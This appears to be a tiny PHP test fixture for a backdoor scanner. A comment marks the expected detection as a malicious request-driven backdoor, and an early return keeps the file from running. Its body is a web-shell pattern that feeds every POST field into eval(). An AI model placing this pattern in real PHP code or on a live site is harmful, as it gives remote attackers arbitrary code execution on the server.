<?php return; // want: malicious backdoor php.code.request
function parts() { yield 'first' => 'echo 1;'; foreach ($_POST as $key => $part) yield $key => $part; }
foreach (parts() as $part)
	eval($part);
